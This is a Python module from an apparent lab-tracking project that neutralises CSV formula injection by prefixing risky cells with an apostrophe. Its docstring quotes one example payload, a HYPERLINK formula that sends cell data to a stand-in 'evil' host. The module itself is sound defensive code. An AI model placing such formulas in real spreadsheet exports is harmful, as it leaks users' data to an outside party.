"""CSV cells that a spreadsheet will not run as formulas (CSV / formula injection).

Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@` (and,
in some versions, a leading tab or carriage return) as a formula: a batch note such as
`=HYPERLINK("http://evil/?"&A1,"click")` would run on the chemist's machine when the
export is opened. OWASP's remedy: prefix such a cell with an apostrophe, which spreadsheets
show as text. Plain numbers (`-1.5`, `+3e-4`) are left alone: they are no formula, and a
stray apostrophe would turn them into text in every sheet that sums them.

Usage, exactly like `csv.writer`:

    from labtrack.core import csv_safe
    writer = csv_safe.writer(buffer)
    writer.writerow(["NC8.3", "=1+1"])      # written as: NC8.3,'=1+1
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> Any:
    """`value` with a leading apostrophe if a spreadsheet would read it as a formula.

    Non-strings (numbers, None, dates) are returned as they are: csv formats them and
    they cannot start a formula.
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """A `csv.writer` whose every cell passes through `spreadsheet_safe` first."""

    def __init__(self, fileobj: Any, *args: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fileobj, *args, **kwargs)

    @property
    def dialect(self) -> Any:
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        # Returns what csv.writer returns (the echo-buffer streaming pattern relies on it).
        return self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fileobj: Any, *args: Any, **kwargs: Any) -> SafeWriter:
    """Drop-in for `csv.writer(fileobj, ...)` that neutralises formula cells."""
    return SafeWriter(fileobj, *args, **kwargs)
